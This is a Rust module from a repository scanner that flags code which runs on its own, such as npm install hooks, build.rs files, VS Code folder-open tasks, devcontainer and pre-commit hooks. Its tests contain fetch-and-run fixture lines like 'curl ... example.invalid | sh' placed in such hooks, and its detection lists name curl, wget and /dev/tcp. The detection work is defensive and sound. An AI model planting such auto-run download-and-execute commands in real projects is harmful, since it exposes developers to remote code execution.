//! Code that runs on its own while someone works in the repository:
//! package-manager lifecycle scripts, build scripts (Python's in
//! [`crate::python`]), cargo runners, direnv, editor tasks and settings,
//! devcontainer commands, local pre-commit hooks, and remote scripts in
//! Makefiles and shell scripts. What each would run is judged by the
//! firewall engine.

use serde_json::Value;

use crate::catalog::finding;
use crate::judge::judge;
use crate::text::{clip, json_command, line_of_str, parse_json, shell_quote};
use crate::walk::{FileView, ScanContext};
use crate::{Finding, Severity};

pub(crate) fn check(f: &FileView, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let Some(text) = f.text else { return };
    match f.name {
        "package.json" => npm_scripts(f.rel, text, ctx, out),
        "build.rs" => cargo_build_script(f, text, out),
        "config.toml" | "config"
            if f.rel.ends_with(".cargo/config.toml") || f.rel.ends_with(".cargo/config") =>
        {
            cargo_config(f.rel, text, ctx, out)
        }
        ".envrc" => direnv(f.rel, text, ctx, out),
        "tasks.json" if f.rel.ends_with(".vscode/tasks.json") => {
            vscode_tasks(f.rel, text, ctx, out)
        }
        "settings.json" if f.rel.ends_with(".vscode/settings.json") => {
            vscode_settings(f.rel, text, ctx, out)
        }
        "devcontainer.json" | ".devcontainer.json" => devcontainer(f.rel, text, ctx, out),
        "setup.py" => crate::python::setup_py(f.rel, text, ctx, out),
        "pyproject.toml" => crate::python::pyproject(f.rel, text, out),
        ".pre-commit-config.yaml" => pre_commit(f.rel, text, ctx, out),
        _ => {
            if is_makefile(f.name) || is_shell_script(f.name, text) {
                remote_scripts(f.rel, text, ctx, out);
            }
        }
    }
}

const NPM_HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

fn npm_scripts(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let Some(v) = parse_json(text) else { return };
    let Some(scripts) = v.get("scripts").and_then(Value::as_object) else {
        return;
    };
    for hook in NPM_HOOKS {
        let Some(cmd) = scripts.get(*hook).and_then(Value::as_str) else {
            continue;
        };
        let j = judge(&ctx.options.engine, cmd);
        let mut f = finding(
            "lifecycle-npm-script",
            j.severity,
            rel,
            line_of_str(text, &format!("\"{hook}\"")),
            format!("`{hook}` script runs on install"),
            clip(&format!("{hook}: {cmd}"), 200),
        );
        f.why = format!("{} {}.", f.why, j.note);
        out.push(f);
    }
}

/// What in a build script starts programs or talks to the network.
const BUILD_SPAWN: &[&str] = &["Command::new", "process::Command", "std::process::Command"];
const BUILD_NET: &[&str] = &[
    "TcpStream",
    "UdpSocket",
    "reqwest",
    "ureq::",
    "curl::",
    "hyper::",
    "http://",
    "https://",
];
const BUILD_SHELLS: &[&str] = &[
    "\"sh\"",
    "\"bash\"",
    "\"zsh\"",
    "\"curl\"",
    "\"wget\"",
    "\"powershell\"",
    "\"cmd\"",
];

fn cargo_build_script(f: &FileView, text: &str, out: &mut Vec<Finding>) {
    // Only a build script next to a Cargo.toml (or at the root) runs.
    let net = BUILD_NET.iter().find(|n| text.contains(**n));
    let spawn = BUILD_SPAWN.iter().find(|n| text.contains(**n));
    let shell = BUILD_SHELLS.iter().find(|n| text.contains(**n));
    let (severity, what, needle) = match (net, spawn, shell) {
        (Some(n), _, _) => (Severity::High, "opens the network", *n),
        (None, Some(_), Some(s)) => (Severity::High, "runs a shell or downloader", *s),
        (None, Some(s), None) => (Severity::Medium, "starts programs", *s),
        (None, None, _) => return,
    };
    let line = line_of_str(text, needle);
    let evidence = text.lines().nth(line - 1).unwrap_or("");
    out.push(finding(
        "lifecycle-cargo-build-script",
        severity,
        f.rel,
        line,
        format!("build.rs {what}"),
        clip(evidence, 160),
    ));
}

/// Cargo's own commands, which an alias must not shadow.
const CARGO_BUILTINS: &[&str] = &[
    "build", "b", "check", "c", "run", "r", "test", "t", "bench", "doc", "d", "clippy", "fmt",
    "install", "publish", "fix", "clean", "update",
];

fn cargo_config(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let Ok(v) = text.parse::<toml::Table>() else {
        return;
    };
    let mut push = |key: &str, value: String, severity: Severity, title: String| {
        let j = judge(&ctx.options.engine, &value);
        let mut f = finding(
            "lifecycle-cargo-config",
            severity.max(j.severity),
            rel,
            line_of_str(text, key),
            title,
            clip(&format!("{key} = {value}"), 200),
        );
        f.why = format!("{} {}.", f.why, j.note);
        out.push(f);
    };
    let words = |v: &toml::Value| match v {
        toml::Value::String(s) => Some(s.clone()),
        toml::Value::Array(a) => Some(
            a.iter()
                .filter_map(|w| w.as_str())
                .collect::<Vec<_>>()
                .join(" "),
        ),
        _ => None,
    };
    if let Some(targets) = v.get("target").and_then(|t| t.as_table()) {
        for (name, t) in targets {
            if let Some(r) = t.get("runner").and_then(words) {
                push(
                    "runner",
                    r,
                    Severity::Medium,
                    format!("cargo runner for `{name}`"),
                );
            }
            if let Some(l) = t.get("linker").and_then(words) {
                push(
                    "linker",
                    l,
                    Severity::Medium,
                    format!("cargo linker for `{name}`"),
                );
            }
        }
    }
    if let Some(build) = v.get("build").and_then(|t| t.as_table()) {
        for key in ["rustc-wrapper", "rustc-workspace-wrapper", "rustc"] {
            if let Some(w) = build.get(key).and_then(words) {
                push(key, w, Severity::Medium, format!("cargo `build.{key}`"));
            }
        }
    }
    if let Some(aliases) = v.get("alias").and_then(|t| t.as_table()) {
        for (name, a) in aliases {
            let Some(cmd) = words(a) else { continue };
            let severity = if CARGO_BUILTINS.contains(&name.as_str()) {
                Severity::Medium
            } else {
                Severity::Low
            };
            out.push(finding(
                "lifecycle-cargo-config",
                severity,
                rel,
                line_of_str(text, name),
                format!("cargo alias `{name}`"),
                clip(&format!("{name} = {cmd}"), 200),
            ));
        }
    }
}

fn direnv(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let mut worst = (Severity::Low, 1, String::new(), String::new());
    for (i, line) in text.lines().enumerate() {
        let l = line.trim();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        let j = judge(&ctx.options.engine, l);
        if j.severity > worst.0 || worst.2.is_empty() {
            worst = (j.severity.max(worst.0), i + 1, l.to_string(), j.note);
        }
    }
    let mut f = finding(
        "lifecycle-direnv",
        worst.0,
        rel,
        worst.1,
        ".envrc runs on `cd` once allowed",
        clip(&worst.2, 200),
    );
    if !worst.3.is_empty() {
        f.why = format!("{} Its worst line: {}.", f.why, worst.3);
    }
    out.push(f);
}

fn vscode_tasks(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let Some(v) = parse_json(text) else { return };
    let Some(tasks) = v.get("tasks").and_then(Value::as_array) else {
        return;
    };
    for t in tasks {
        let on_open = t
            .pointer("/runOptions/runOn")
            .and_then(Value::as_str)
            .is_some_and(|r| r == "folderOpen");
        if !on_open {
            continue;
        }
        let mut cmd = t.get("command").and_then(json_command).unwrap_or_default();
        if let Some(args) = t.get("args").and_then(json_command) {
            cmd = format!("{cmd} {args}");
        }
        let j = judge(&ctx.options.engine, &cmd);
        let label = t
            .get("label")
            .and_then(Value::as_str)
            .unwrap_or("(unnamed)");
        let mut f = finding(
            "lifecycle-vscode-task",
            j.severity.max(Severity::Medium),
            rel,
            line_of_str(text, "folderOpen"),
            format!("task `{label}` runs when the folder opens"),
            clip(&cmd, 200),
        );
        f.why = format!("{} {}.", f.why, j.note);
        out.push(f);
    }
}

/// Settings whose value is a program the editor or an extension starts.
fn vscode_program_key(key: &str) -> bool {
    let last = key.rsplit('.').next().unwrap_or(key);
    const NOT_PROGRAMS: &[&str] = &[
        "venvPath",
        "stubPath",
        "storagePath",
        "logPath",
        "cachePath",
    ];
    if NOT_PROGRAMS.contains(&last) {
        return false;
    }
    key.starts_with("terminal.integrated.shell.")
        || key.starts_with("terminal.integrated.automationShell.")
        || key == "eslint.runtime"
        || last == "path"
        || last.ends_with("Path")
}

/// A path inside the repository: relative with a directory part, or from
/// `${workspaceFolder}`. A bare name is looked up on PATH; an absolute path
/// or `~` is the user's own.
fn repo_path(p: &str) -> Option<String> {
    let p = p.trim();
    for var in ["${workspaceFolder}", "${workspaceRoot}"] {
        if let Some(rest) = p.strip_prefix(var) {
            return Some(format!(".{rest}"));
        }
    }
    if p.is_empty() || p.starts_with(['/', '~', '$']) || p.contains("://") {
        return None;
    }
    // C:\ and other Windows absolute paths.
    if p.as_bytes().get(1) == Some(&b':') {
        return None;
    }
    if p.contains('/') || p.contains('\\') {
        Some(if p.starts_with("./") || p.starts_with("../") {
            p.to_string()
        } else {
            format!("./{p}")
        })
    } else {
        None
    }
}

/// Environments the user creates; a path into one is what a project's
/// settings usually point at.
const ENV_DIRS: &[&str] = &["./.venv/", "./venv/", "./node_modules/", "./target/"];

fn vscode_settings(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let Some(Value::Object(settings)) = parse_json(text) else {
        return;
    };
    // (key as written, program, its arguments)
    let mut programs: Vec<(String, String, String)> = Vec::new();
    for (key, value) in &settings {
        let profiles = key.starts_with("terminal.integrated.profiles.");
        let automation = key.starts_with("terminal.integrated.automationProfile.");
        if profiles || automation {
            let entries: Vec<(String, &Value)> = if profiles {
                value
                    .as_object()
                    .into_iter()
                    .flatten()
                    .map(|(n, p)| (format!("{key}.{n}"), p))
                    .collect()
            } else {
                vec![(key.clone(), value)]
            };
            for (name, p) in entries {
                let args = p.get("args").and_then(json_command).unwrap_or_default();
                let paths: Vec<&str> = match p.get("path") {
                    Some(Value::String(s)) => vec![s.as_str()],
                    Some(Value::Array(a)) => a.iter().filter_map(Value::as_str).collect(),
                    _ => Vec::new(),
                };
                for path in paths {
                    programs.push((name.clone(), path.to_string(), args.clone()));
                }
            }
        } else if key == "go.alternateTools" {
            for (tool, p) in value.as_object().into_iter().flatten() {
                if let Some(p) = p.as_str() {
                    programs.push((format!("{key}.{tool}"), p.to_string(), String::new()));
                }
            }
        } else if vscode_program_key(key)
            && let Some(p) = value.as_str()
        {
            programs.push((key.clone(), p.to_string(), String::new()));
        }
    }
    for (key, program, args) in programs {
        let line = line_of_str(text, &program);
        let (path, base) = match repo_path(&program) {
            Some(p) if ENV_DIRS.iter().any(|d| p.starts_with(d)) => (p, Severity::Low),
            Some(p) => (p, Severity::Medium),
            // A program from PATH: only its arguments can make it a finding.
            None if !args.is_empty() => (program.clone(), Severity::Low),
            None => continue,
        };
        let cmd = format!("{} {args}", shell_quote(&path));
        let j = judge(&ctx.options.engine, cmd.trim());
        if repo_path(&program).is_none() && j.severity < Severity::Medium {
            continue;
        }
        let mut f = finding(
            "lifecycle-vscode-settings",
            j.severity.max(base),
            rel,
            line,
            format!("`{}` runs `{}`", clip(&key, 80), clip(&path, 80)),
            clip(&format!("{key}: {}", cmd.trim()), 200),
        );
        f.why = format!("{} {}.", f.why, j.note);
        out.push(f);
    }
}

const DEVCONTAINER_HOOKS: &[&str] = &[
    "initializeCommand",
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
];

fn devcontainer(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let Some(v) = parse_json(text) else { return };
    for hook in DEVCONTAINER_HOOKS {
        let Some(value) = v.get(*hook) else { continue };
        // A command is a string, an argv array, or an object of either
        // (commands run in parallel).
        let commands: Vec<String> = match value {
            Value::Object(m) => m.values().filter_map(json_command).collect(),
            other => json_command(other).into_iter().collect(),
        };
        for cmd in commands {
            let j = judge(&ctx.options.engine, &cmd);
            let base = if *hook == "initializeCommand" {
                Severity::Medium
            } else {
                Severity::Low
            };
            let mut f = finding(
                "lifecycle-devcontainer",
                j.severity.max(base),
                rel,
                line_of_str(text, &format!("\"{hook}\"")),
                if *hook == "initializeCommand" {
                    "initializeCommand runs on the host".to_string()
                } else {
                    format!("{hook} runs in the container")
                },
                clip(&cmd, 200),
            );
            f.why = format!("{} {}.", f.why, j.note);
            out.push(f);
        }
    }
}

/// `.pre-commit-config.yaml`, read line by line (block style, as pre-commit
/// writes it): the `entry` of every hook under `repo: local`, judged.
fn pre_commit(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let lines: Vec<&str> = text.lines().collect();
    let mut local = false;
    // The hook being read: (line of its entry, entry, language, id).
    let mut hook: Option<(usize, String)> = None;
    let mut language = String::new();
    let mut id = String::new();
    let mut hooks: Vec<(usize, String, String, String)> = Vec::new();
    let mut i = 0;
    while i < lines.len() {
        let raw = lines[i];
        let l = raw.trim_start().trim_start_matches("- ").trim();
        i += 1;
        let at = i;
        if l.starts_with('#') {
            continue;
        }
        let Some((key, value)) = l.split_once(':') else {
            continue;
        };
        let value = unquote(value.split(" #").next().unwrap_or("").trim());
        match key.trim() {
            "repo" => {
                if let Some((n, e)) = hook.take() {
                    hooks.push((n, e, std::mem::take(&mut language), std::mem::take(&mut id)));
                }
                local = value == "local";
            }
            "id" if local => {
                if let Some((n, e)) = hook.take() {
                    hooks.push((n, e, std::mem::take(&mut language), std::mem::take(&mut id)));
                }
                language.clear();
                id = value.to_string();
            }
            "language" if local => language = value.to_string(),
            "entry" if local => {
                let mut entry = value.to_string();
                // A folded or literal block: the more indented lines below.
                if entry.starts_with(['|', '>']) {
                    let indent = raw.len() - raw.trim_start().len();
                    let mut parts = Vec::new();
                    while i < lines.len() {
                        let next = lines[i];
                        let ni = next.len() - next.trim_start().len();
                        if !next.trim().is_empty() && ni <= indent {
                            break;
                        }
                        parts.push(next.trim());
                        i += 1;
                    }
                    entry = parts.join(" ").trim().to_string();
                }
                hook = Some((at, entry));
            }
            _ => {}
        }
    }
    if let Some((n, e)) = hook.take() {
        hooks.push((n, e, language, id));
    }
    for (line, entry, language, id) in hooks {
        // `language: script` runs a file from the repository.
        let cmd = if language == "script" && !entry.starts_with(['.', '/']) {
            format!("./{entry}")
        } else {
            entry.clone()
        };
        let j = judge(&ctx.options.engine, &cmd);
        let name = if id.is_empty() { "(unnamed)" } else { &id };
        let mut f = finding(
            "lifecycle-pre-commit",
            j.severity,
            rel,
            line,
            format!("local hook `{}` runs on `git commit`", clip(name, 60)),
            clip(&format!("entry: {entry}"), 200),
        );
        f.why = format!("{} {}.", f.why, j.note);
        out.push(f);
    }
}

fn unquote(v: &str) -> &str {
    for q in ['"', '\''] {
        if let Some(inner) = v.strip_prefix(q).and_then(|r| r.strip_suffix(q)) {
            return inner;
        }
    }
    v
}

fn is_makefile(name: &str) -> bool {
    matches!(
        name,
        "Makefile" | "makefile" | "GNUmakefile" | "justfile" | "Justfile"
    ) || name.ends_with(".mk")
}

fn is_shell_script(name: &str, text: &str) -> bool {
    name.ends_with(".sh")
        || name.ends_with(".bash")
        || name.ends_with(".zsh")
        || (text.starts_with("#!") && {
            let first = text.lines().next().unwrap_or("");
            first.contains("sh")
        })
}

/// Lines that fetch and run code, as the engine sees them.
fn remote_scripts(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    for (i, line) in text.lines().enumerate() {
        if !(line.contains("curl")
            || line.contains("wget")
            || line.contains("base64")
            || line.contains("/dev/tcp"))
        {
            continue;
        }
        let l = line.trim().trim_start_matches(['@', '-', '+']).trim();
        if l.starts_with('#') {
            continue;
        }
        // Make's `$$` is the shell's `$`.
        let l = l.replace("$$", "$");
        let j = judge(&ctx.options.engine, &l);
        if !j.runs_remote_code() {
            continue;
        }
        let mut f = finding(
            "lifecycle-remote-script",
            j.severity.min(Severity::High),
            rel,
            i + 1,
            "runs a script fetched from the network",
            clip(&l, 200),
        );
        f.why = format!("{} {}.", f.why, j.note);
        out.push(f);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::{by_id, scan_files};

    #[test]
    fn npm_lifecycle_scripts_take_the_engines_verdict() {
        let pkg = r#"{"name":"x","scripts":{"preinstall":"curl -fsSL https://example.invalid/i.sh | sh","postinstall":"node build.js","test":"jest"}}"#;
        let found = scan_files(&[("package.json", pkg)]);
        let got: Vec<_> = by_id(&found, "lifecycle-npm-script");
        assert_eq!(
            got,
            vec![(Severity::Critical, 1), (Severity::Low, 1)],
            "{found:#?}"
        );
    }

    #[test]
    fn node_build_js_is_low_at_most() {
        let pkg = r#"{"scripts":{"postinstall":"node build.js","prepare":"husky install"}}"#;
        let found = scan_files(&[("package.json", pkg)]);
        let severity = |script: &str| {
            found
                .iter()
                .find(|f| f.evidence.starts_with(script))
                .map(|f| f.severity)
        };
        assert_eq!(severity("postinstall"), Some(Severity::Low), "{found:#?}");
        // Installing git hooks asks (they run at every later commit): the
        // firewall's decision, so not low.
        assert_eq!(severity("prepare"), Some(Severity::Medium), "{found:#?}");
    }

    #[test]
    fn build_rs_with_network_is_high_and_plain_one_is_not_found() {
        let bad = "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl https://example.invalid/x | sh\").status().unwrap();\n}\n";
        let good = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    cc::Build::new().file(\"src/x.c\").compile(\"x\");\n}\n";
        let found = scan_files(&[("a/build.rs", bad), ("b/build.rs", good)]);
        assert_eq!(
            by_id(&found, "lifecycle-cargo-build-script"),
            vec![(Severity::High, 3)]
        );
    }

    #[test]
    fn cargo_config_runner_and_alias() {
        let cfg = "[target.x86_64-unknown-linux-gnu]\nrunner = \"./tools/run.sh\"\n[alias]\nb = \"run --bin evil\"\nxtask = \"run -p xtask --\"\n";
        let found = scan_files(&[(".cargo/config.toml", cfg)]);
        let got = by_id(&found, "lifecycle-cargo-config");
        assert_eq!(got.len(), 3, "{found:#?}");
        assert!(
            found.iter().all(|f| f.severity <= Severity::Medium),
            "{found:#?}"
        );
        assert!(got.contains(&(Severity::Low, 5)), "{found:#?}");
    }

    #[test]
    fn direnv_is_found_and_plain_exports_are_low() {
        let found = scan_files(&[
            ("a/.envrc", "export FOO=bar\n"),
            ("b/.envrc", "curl -fsSL https://example.invalid/x | bash\n"),
        ]);
        assert_eq!(
            by_id(&found, "lifecycle-direnv"),
            vec![(Severity::Critical, 1), (Severity::Low, 1)]
        );
    }

    #[test]
    fn vscode_folder_open_task_only() {
        let tasks = r#"{
  // comment
  "version": "2.0.0",
  "tasks": [
    {"label": "build", "type": "shell", "command": "npm run build"},
    {"label": "setup", "type": "shell", "command": "bash", "args": ["-c", "curl -s https://example.invalid/a | sh"],
     "runOptions": {"runOn": "folderOpen"}},
  ]
}"#;
        let found = scan_files(&[(".vscode/tasks.json", tasks)]);
        assert_eq!(
            by_id(&found, "lifecycle-vscode-task"),
            vec![(Severity::Critical, 7)]
        );
    }

    #[test]
    fn devcontainer_commands() {
        let dc = "{\n  \"image\": \"x\",\n  \"initializeCommand\": \"wget -qO- https://example.invalid/i | sh\",\n  \"postCreateCommand\": \"npm ci\"\n}\n";
        let found = scan_files(&[(".devcontainer/devcontainer.json", dc)]);
        assert_eq!(
            by_id(&found, "lifecycle-devcontainer"),
            vec![(Severity::Critical, 3), (Severity::Medium, 4)]
        );
    }

    #[test]
    fn makefile_remote_script_and_a_plain_download() {
        let mk = "install:\n\tcurl -fsSL https://example.invalid/install.sh | sh\nfetch:\n\tcurl -fsSLo data.tgz https://example.invalid/data.tgz\n";
        let sh = "#!/bin/sh\n# never do: curl x | sh\nwget -qO- https://example.invalid/x | bash\n";
        let found = scan_files(&[("Makefile", mk), ("scripts/setup.sh", sh)]);
        assert_eq!(
            by_id(&found, "lifecycle-remote-script"),
            vec![(Severity::High, 2), (Severity::High, 3)]
        );
    }

    #[test]
    fn vscode_settings_that_run_repo_programs() {
        let s = r#"{
  // the project's interpreter
  "python.defaultInterpreterPath": "${workspaceFolder}/tools/python",
  "terminal.integrated.profiles.linux": {
    "dev": {"path": "bash", "args": ["-c", "curl -s https://example.invalid/t | sh"]},
    "repo": {"path": "./scripts/shell"}
  },
  "rust-analyzer.server.path": "/usr/local/bin/rust-analyzer",
  "eslint.runtime": ".venv/bin/node",
}"#;
        let found = scan_files(&[(".vscode/settings.json", s)]);
        let mut got = by_id(&found, "lifecycle-vscode-settings");
        got.sort();
        assert_eq!(
            got,
            vec![
                (Severity::Low, 9),
                (Severity::Medium, 3),
                (Severity::Medium, 6),
                (Severity::Critical, 5)
            ],
            "{found:#?}"
        );
    }

    #[test]
    fn vscode_formatting_settings_are_not_found() {
        let s = r#"{"editor.formatOnSave": true, "editor.tabSize": 4,
  "[python]": {"editor.defaultFormatter": "ms-python.black-formatter"},
  "python.defaultInterpreterPath": "python3", "files.exclude": {"**/.git": true}}"#;
        assert!(scan_files(&[(".vscode/settings.json", s)]).is_empty());
    }

    #[test]
    fn pre_commit_local_hooks_are_judged_and_remote_ones_are_not_found() {
        let cfg = "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0\n    hooks:\n      - id: black\n  - repo: local\n    hooks:\n      - id: fetch\n        name: fetch\n        entry: bash -c 'curl -fsSL https://example.invalid/h | sh'\n        language: system\n      - id: lint\n        entry: scripts/lint.sh\n        language: script\n      - id: fmt\n        entry: black\n        language: system\n";
        let found = scan_files(&[(".pre-commit-config.yaml", cfg)]);
        assert_eq!(
            by_id(&found, "lifecycle-pre-commit"),
            vec![
                (Severity::Critical, 10),
                (Severity::Medium, 13),
                (Severity::Low, 16)
            ],
            "{found:#?}"
        );
        let remote = "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n    entry: ignored-here\n";
        assert!(scan_files(&[(".pre-commit-config.yaml", remote)]).is_empty());
    }
}
